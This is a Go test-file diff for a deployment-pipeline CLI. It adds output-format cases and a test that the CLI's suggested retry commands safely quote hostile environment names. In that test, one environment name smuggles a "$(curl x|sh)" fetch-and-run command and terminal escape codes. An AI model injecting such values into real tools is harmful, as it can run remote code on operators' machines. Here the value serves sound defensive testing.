@@ -45,7 +45,7 @@ func lines(t *testing.T) (*testkit.APIServer, string) {
 				Targets: []pipelines.TargetStatus{target(broken, "prod", "1.0.0")},
 				Promotion: promotionOf(clitest.PromotionOf(broken, "prod", pipelines.PromotionStatus{
 					Revision: "2.0.0", Run: 1, State: pipelines.PromotionFailed, StartTime: at, Attempts: 3,
-					Error: &pipelines.PromotionError{Reason: "Refused", Message: "the events address refuses us", Permanent: true, Generation: 1},
+					Error: &pipelines.PromotionError{Reason: "EventRefused", Message: "the events address refuses us", Permanent: true, Generation: 1},
 				})),
 			},
 		},
@@ -77,6 +77,10 @@ func TestOutput(t *testing.T) {
 		"status-fresh":        {"status", "fresh"},
 		"status-broken":       {"status", "broken"},
 		"status-yaml":         {"status", "shop", "-o", "yaml"},
+		"status-tree":         {"status", "shop", "-o", "tree"},
+		"status-dot":          {"status", "fresh", "-o", "dot"},
+		"status-template":     {"status", "shop", "-o", `jsonpath={range .environments[*]}{.name} {.revision}{"\n"}{end}`},
+		"why-name":            {"why", "shop", "-o", "name"},
 		"why":                 {"why", "shop"},
 		"why-fresh":           {"why", "fresh"},
 		"why-broken":          {"why", "broken"},
@@ -145,6 +149,10 @@ func TestExitCodesTellHowAPipelineStands(t *testing.T) {
 		strings.Contains(got.Stdout, "Next:") {
 		t.Errorf("%+v", got)
 	}
+	got = clitest.Run(t, server, namespace, clitest.Call{Command: pipeline.New, Args: []string{"why", "shop", "-o", "name"}})
+	if got.Code != cli.ExitOK || got.Stdout != "" || got.Stderr != "" {
+		t.Errorf("nothing waits: %+v", got)
+	}
 }
 
 // The answer follows from the spec and the annotations as they are now, also before the controller has noticed.
@@ -166,10 +174,41 @@ func TestWhySeesWhatPeopleHold(t *testing.T) {
 		t.Fatal(err)
 	}
 	got := clitest.Run(t, server, namespace, clitest.Call{Command: pipeline.New, Args: []string{"why", "shop"}})
-	for _, want := range []string{"Pipeline/shop does not go on at environment production (Held)", "audit", "espalier hold shop production --release"} {
+	for _, want := range []string{"Pipeline/shop waits at environment production (Held)", "audit", "espalier hold shop production --release"} {
 		if !strings.Contains(got.Stdout, want) {
 			t.Errorf("the answer lacks %q:\n%s%s", want, got.Stdout, got.Stderr)
 		}
+	}
+}
+
+// Anybody who may write a pipeline chooses the names of its environments. What is offered for copying runs nothing else.
+func TestWhySuggestsSafeCommands(t *testing.T) {
+	server := testkit.Server(t)
+	namespace := server.Namespace(t)
+	const name = "prod;$(curl x|sh)\x1b]0;title\x07"
+	hostile := testkit.Pipeline(namespace, "hostile").Environment("dev", "dev").Environment(name, "prod").Notification().Build()
+	at := clitest.Before(5)
+	hostile.Status = pipelines.PipelineStatus{
+		ObservedGeneration: 1, LatestRevision: "2.0.0", Run: &pipelines.Run{Number: 1, Revision: "2.0.0", StartTime: at},
+		Environments: map[string]pipelines.EnvironmentStatus{
+			"dev": {
+				Targets: []pipelines.TargetStatus{target(hostile, "dev", "2.0.0")},
+				Healthy: &pipelines.EnvironmentHealth{Revision: "2.0.0", Since: at},
+			},
+			name: {
+				Targets: []pipelines.TargetStatus{target(hostile, "prod", "1.0.0")},
+				Promotion: promotionOf(clitest.PromotionOf(hostile, name, pipelines.PromotionStatus{
+					Revision: "2.0.0", Run: 1, State: pipelines.PromotionFailed, StartTime: at, Attempts: 3,
+					Error: &pipelines.PromotionError{Reason: "EventRefused", Message: "no", Permanent: true, Generation: 1},
+				})),
+			},
+		},
+	}
+	clitest.Store(t, server, hostile)
+	got := clitest.Run(t, server, namespace, clitest.Call{Command: pipeline.New, Args: []string{"why", "hostile"}})
+	if want := "  espalier retry hostile 'prod;$(curl x|sh)]0;title' -n <namespace> "; got.Code != cli.ExitOK || !strings.Contains(got.Stdout, want) ||
+		strings.ContainsAny(got.Stdout, "\x1b\x07") {
+		t.Errorf("%+v, want %q", got, want)
 	}
 }
 
@@ -213,7 +252,7 @@ func TestRefusals(t *testing.T) {
 		"unknown pipeline":    {[]string{"status", "nope"}, cli.ExitNotFound, "pipeline nope does not exist"},
 		"unknown in a list":   {[]string{"get", "shop", "nope"}, cli.ExitNotFound, "espalier pipeline get"},
 		"unknown environment": {[]string{"history", "shop", "moon"}, cli.ExitNotFound, "pipeline shop has no environment moon"},
-		"unknown format":      {[]string{"graph", "shop", "-o", "png"}, cli.ExitError, "--output takes text, svg, mermaid, dot"},
+		"unknown format":      {[]string{"graph", "shop", "-o", "png"}, cli.ExitError, "--output takes text, tree, svg, mermaid, dot\n"},
 		"a bad selector":      {[]string{"get", "-l", "a b"}, cli.ExitError, "--selector"},
 		"name and all":        {[]string{"get", "shop", "-A"}, cli.ExitError, "do not go together"},
 		"forbidden":           {[]string{"get", "--as=nobody"}, cli.ExitNotFound, "auth can-i"},
